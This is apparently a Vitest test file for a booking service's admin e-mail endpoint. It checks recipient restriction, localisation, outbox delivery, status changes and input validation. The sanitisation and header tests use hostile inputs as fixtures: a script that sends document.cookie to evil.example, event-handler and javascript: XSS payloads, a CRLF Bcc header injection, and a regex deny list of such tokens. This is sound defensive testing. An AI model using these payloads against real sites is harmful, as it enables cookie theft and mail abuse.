// POST /api/email/send against a real D1: the admin's reply goes to the quote's own address only, in
// the quote's language, sanitised, through the outbox, and moves the quote to 'replied'. The API
// mounts the session guard in front of this router (tests/api/admin-guard.spec.ts proves it); here
// the router is tested on its own, in a test-only app with the API's error handler, behind the
// guard's stand-in signing in the configured admin.
import { describe, expect, it } from 'vitest';
import { Hono } from 'hono';
import { createExecutionContext, waitOnExecutionContext } from 'cloudflare:test';
import { env } from 'cloudflare:workers';
import { asc, eq } from 'drizzle-orm';
import type { AppEnv } from '../../worker/env.ts';
import { emailRoutes } from '../../worker/routes/admin/email.ts';
import { apiOnError } from '../../worker/middleware/api-errors.ts';
import { emailSendResponseSchema } from '../../worker/contract/schemas/email-send.ts';
import { fillReplyTemplate, replyMessageHtml } from '../../worker/contract/reply-templates.ts';
import { excursionQuotes, outbox, quotes } from '../../worker/db/schema.ts';
import { aStoredExcursionQuote, aStoredQuote } from './factories.ts';
import { signedInAs } from './admin-support.ts';
import { ORIGIN, TEST_ADMIN, answerOf, db, errorOf } from './support.ts';

const app = new Hono<AppEnv>().route('/api/email', signedInAs(TEST_ADMIN.username).route('/', emailRoutes));
app.onError(apiOnError);

/** Calls the router like the dashboard will, and waits for the delivery it schedules. */
async function call(init: RequestInit, path = '/api/email/send'): Promise<Response> {
  const ctx = createExecutionContext();
  const response = await app.fetch(new Request(`${ORIGIN}${path}`, init), env, ctx);
  await waitOnExecutionContext(ctx);
  return response;
}

const send = (body: unknown, headers: Record<string, string> = {}) =>
  call({ method: 'POST', headers: { 'Content-Type': 'application/json', ...headers }, body: JSON.stringify(body) });

const emails = () => db().select().from(outbox).orderBy(asc(outbox.id));
const transferStatus = async (id: number) => (await db().select({ status: quotes.status }).from(quotes).where(eq(quotes.id, id)))[0]?.status;
const excursionStatus = async (id: number) =>
  (await db().select({ status: excursionQuotes.status }).from(excursionQuotes).where(eq(excursionQuotes.id, id)))[0]?.status;

/** The admin's message inside the layout. */
const bodyOf = (html: string) => /<div style="line-height:1\.5">([\s\S]*?)<\/div>\n/.exec(html)?.[1] ?? '';

describe('POST /api/email/send', () => {
  it('sends the reply to a transfer quote through the outbox, in the quote’s language, and marks the quote replied', async () => {
    const quote = await aStoredQuote();
    const { subject, message } = fillReplyTemplate('paymentRequest', 'en', {
      quote: { ...quote, firstName: 'Claire', lastName: 'Martin' },
      price: '450',
      paymentLink: 'https://pay.example.com/q/abc?x=1&y=2',
    });
    const response = await send({ to: 'Claire.Martin@Example.com', subject, htmlContent: replyMessageHtml(message), quoteId: quote.id });
    expect(response.status).toBe(200);
    expect(await answerOf(response, emailSendResponseSchema)).toEqual({ message: 'Email sent successfully' });

    const [email, ...others] = await emails();
    expect(others).toEqual([]);
    expect(email).toMatchObject({
      kind: 'reply.transfer',
      // The address stored with the quote.
      toAddress: 'claire.martin@example.com',
      replyTo: 'office@example.test',
      lang: 'en',
      subject: `Your quote and secure payment link – ${quote.quoteNumber}`,
      relatedType: 'reply',
      relatedId: quote.id,
      // Delivered right after the answer by the local outbox provider.
      status: 'sent',
    });
    expect(email!.html).toContain('<html lang="en">');
    expect(bodyOf(email!.html)).toBe(replyMessageHtml(message));
    expect(email!.html).toContain('<a href="https://pay.example.com/q/abc?x=1&amp;y=2">https://pay.example.com/q/abc?x=1&amp;y=2</a>');
    // The text alternative: the message as written, then the company's footer.
    expect(email!.text.startsWith(`Dear Claire,\n\nThank you for your request.`)).toBe(true);
    expect(email!.text).toContain('Price: €450\n');
    expect(email!.text).toContain(`Quote number: ${quote.quoteNumber}\n`);
    expect(email!.text).toMatch(/\n--\nParis Elite Chauffeur · /);

    expect(await transferStatus(quote.id)).toBe('replied');
  });

  it('sends the reply to an excursion quote named by quoteKind, in French for a French quote; the transfer quote with the same id is untouched', async () => {
    // Both tables start at id 1: quoteKind says which one is meant.
    const transfer = await aStoredQuote();
    const excursion = await aStoredExcursionQuote({ lang: 'fr', email: 'jean.dupont@example.com' });
    expect(excursion.id).toBe(transfer.id);
    const { subject, message } = fillReplyTemplate('bookingConfirmation', 'fr', {
      quote: { ...excursion, firstName: 'Jean', excursionTitle: 'Paris Highlights' },
    });

    const response = await send({
      to: 'jean.dupont@example.com',
      subject,
      htmlContent: replyMessageHtml(message),
      quoteId: String(excursion.id),
      quoteKind: 'excursion',
    });
    expect(response.status).toBe(200);

    const [email] = await emails();
    expect(email).toMatchObject({
      kind: 'reply.excursion',
      toAddress: 'jean.dupont@example.com',
      lang: 'fr',
      subject: `Votre réservation est confirmée – ${excursion.exQuoteNumber}`,
      relatedType: 'reply',
      relatedId: excursion.id,
    });
    expect(email!.html).toContain('<html lang="fr">');
    expect(email!.text).toContain('vous contactera 30\u00a0minutes avant la prise en charge');
    expect(await excursionStatus(excursion.id)).toBe('replied');
    expect(await transferStatus(transfer.id)).toBe('pending');
  });

  it('moves a pending or cancelled request to replied, and a replied one stays replied', async () => {
    const quote = await aStoredQuote();
    await db().update(quotes).set({ status: 'cancelled' }).where(eq(quotes.id, quote.id));
    const reply = { to: 'claire.martin@example.com', subject: 'Your booking', htmlContent: '<p>Hello</p>', quoteId: quote.id };

    expect((await send(reply)).status).toBe(200);
    expect(await transferStatus(quote.id)).toBe('replied');
    expect((await send(reply)).status).toBe(200);
    expect(await transferStatus(quote.id)).toBe('replied');
    expect((await emails()).map((email) => email.kind)).toEqual(['reply.transfer', 'reply.transfer']);
  });

  it('leaves a confirmed or completed booking as it is: a later e-mail is about the booking (decision 038)', async () => {
    for (const status of ['confirmed', 'completed'] as const) {
      const quote = await aStoredQuote();
      await db().update(quotes).set({ status }).where(eq(quotes.id, quote.id));
      expect((await send({ to: 'claire.martin@example.com', subject: 'Your chauffeur', htmlContent: '<p>Hello</p>', quoteId: quote.id })).status).toBe(200);
      expect(await transferStatus(quote.id)).toBe(status);
    }
  });

  it('refuses any address but the quote’s own, naming the field, and queues nothing', async () => {
    const quote = await aStoredQuote();
    for (const to of ['someone.else@example.com', 'claire.martin@example.org', 'claire.martin@example.com.evil.example']) {
      const response = await send({ to, subject: 'Hello', htmlContent: '<p>Hi</p>', quoteId: quote.id });
      expect(response.status).toBe(400);
      expect(await errorOf(response)).toEqual({
        code: 'validation_failed',
        message: 'Some fields need your attention.',
        fields: { to: 'This is not the e-mail address of this quote: a reply can only go to the customer who made the request.' },
      });
    }
    // Several addresses in one are no address at all.
    const list = await send({ to: 'claire.martin@example.com, evil@example.com', subject: 'Hello', htmlContent: '<p>Hi</p>', quoteId: quote.id });
    expect((await errorOf(list)).fields).toEqual({ to: 'Email is invalid' });
    expect(await emails()).toEqual([]);
    expect(await transferStatus(quote.id)).toBe('pending');
  });

  it('answers 404 for a quote that does not exist, of either kind', async () => {
    const transfer = await aStoredQuote();
    for (const body of [
      { quoteId: 999 },
      // A transfer quote's id named as an excursion quote.
      { quoteId: transfer.id, quoteKind: 'excursion' },
    ]) {
      const response = await send({ to: 'claire.martin@example.com', subject: 'Hello', htmlContent: '<p>Hi</p>', ...body });
      expect(response.status).toBe(404);
      expect(await errorOf(response)).toEqual({ code: 'not_found', message: 'This quote does not exist (it may have been deleted).' });
    }
    const french = await send({ to: 'a@example.com', subject: 'Hello', htmlContent: '<p>Hi</p>', quoteId: 999 }, { 'Accept-Language': 'fr-FR,fr;q=0.9' });
    expect((await errorOf(french)).message).toBe('Ce devis n’existe pas (il a peut-être été supprimé).');
    expect(await emails()).toEqual([]);
  });

  it('names every invalid field, in English or in French', async () => {
    const english = await send({});
    expect(english.status).toBe(400);
    expect(await errorOf(english)).toEqual({
      code: 'validation_failed',
      message: 'Some fields need your attention.',
      fields: { to: 'This field is required.', subject: 'This field is required.', htmlContent: 'This field is required.', quoteId: 'This field is required.' },
    });

    const french = await send(
      { to: 'not-an-address', subject: ' \r\n ', htmlContent: '   ', quoteId: 'abc', quoteKind: 'booking', cc: 'x@example.com' },
      { 'Accept-Language': 'fr' },
    );
    expect(french.status).toBe(400);
    expect(await errorOf(french)).toEqual({
      code: 'validation_failed',
      message: 'Certains champs doivent être corrigés.',
      fields: {
        to: 'Adresse e-mail invalide',
        subject: 'Ce champ est obligatoire.',
        htmlContent: 'Ce champ est obligatoire.',
        quoteId: 'Cette valeur n’est pas valide.',
        quoteKind: 'Cette valeur n’est pas valide.',
        cc: 'Ce champ ne fait pas partie de cette demande.',
      },
    });

    const tooLong = await send({ to: 'a@example.com', subject: 'x'.repeat(201), htmlContent: `<p>${'x'.repeat(100_000)}</p>`, quoteId: 1 });
    expect((await errorOf(tooLong)).fields).toEqual({ subject: 'This is too long.', htmlContent: 'This is too long.' });

    const notJson = await call({ method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: 'hello' });
    expect(notJson.status).toBe(415);
    expect(await emails()).toEqual([]);
  });

  it('neutralises markup: scripts, handlers, styles, frames and javascript: links never reach the stored e-mail', async () => {
    const quote = await aStoredQuote();
    const htmlContent = [
      '<p onclick="steal()" style="color:red">Dear Claire,<script>fetch("https://evil.example/?c="+document.cookie)</script></p>',
      '<img src=x onerror=alert(1)><iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
      '<p><a href="javascript:alert(1)">Pay now</a> or <a href="JaVa&#x09;ScRiPt:alert(1)">here</a> or <a href="https://pay.example.com/ok" onmouseover="x()">there</a></p>',
      '<svg><script>alert(1)</script></svg><form action="https://evil.example"><input name="card"></form>',
      '&lt;b&gt;as text&lt;/b&gt; "quotes" <b>bold</b><!-- <script>alert(1)</script> --><p>unclosed <em>end',
    ].join('');
    expect((await send({ to: 'claire.martin@example.com', subject: 'Hello', htmlContent, quoteId: quote.id })).status).toBe(200);

    const [email] = await emails();
    expect(bodyOf(email!.html)).toBe(
      '<p>Dear Claire,</p><p>Pay now or here or <a href="https://pay.example.com/ok">there</a></p>&lt;b&gt;as text&lt;/b&gt; &quot;quotes&quot; <b>bold</b><p>unclosed <em>end</em></p>',
    );
    for (const part of [email!.html, email!.text]) {
      expect(part).not.toMatch(/<script|onclick|onerror|onmouseover|javascript:|<iframe|<img|<svg|<form|<input|evil\.example/i);
    }
    expect(
      email!.text.startsWith('Dear Claire,\n\nPay now or here or there (https://pay.example.com/ok)\n\n<b>as text</b> "quotes" bold\n\nunclosed end'),
    ).toBe(true);
  });

  it('refuses a message with nothing left to read once sanitised, and queues nothing', async () => {
    const quote = await aStoredQuote();
    const response = await send({
      to: 'claire.martin@example.com',
      subject: 'Hello',
      htmlContent: '<script>alert(1)</script><p> </p><img src=x>',
      quoteId: quote.id,
    });
    expect(response.status).toBe(400);
    expect((await errorOf(response)).fields).toEqual({ htmlContent: 'This field is required.' });
    expect(await emails()).toEqual([]);
    expect(await transferStatus(quote.id)).toBe('pending');
  });

  it('refuses a message the HTML parser cannot read whole (elements left open past what it follows), and queues nothing', async () => {
    const quote = await aStoredQuote();
    const response = await send({ to: 'claire.martin@example.com', subject: 'Hello', htmlContent: `<p>Hello${'<b>'.repeat(33_000)}`, quoteId: quote.id });
    expect(response.status).toBe(400);
    expect((await errorOf(response)).fields).toEqual({ htmlContent: 'This value is not valid.' });
    expect(await emails()).toEqual([]);
    expect(await transferStatus(quote.id)).toBe('pending');
  });

  it('makes the subject one line: line breaks and control characters cannot add a header', async () => {
    const quote = await aStoredQuote();
    const subject = 'Your booking\r\nBcc: victim@example.com\n\u202eReversed\u0007  end';
    expect((await send({ to: 'claire.martin@example.com', subject, htmlContent: '<p>Hello</p>', quoteId: quote.id })).status).toBe(200);
    const [email] = await emails();
    expect(email!.subject).toBe('Your booking Bcc: victim@example.com Reversed end');
    expect(email!.html).toContain('<title>Your booking Bcc: victim@example.com Reversed end</title>');
  });

  it('answers 405 to other methods', async () => {
    const response = await call({ method: 'GET' });
    expect(response.status).toBe(405);
    expect(response.headers.get('Allow')).toBe('POST');
  });
});
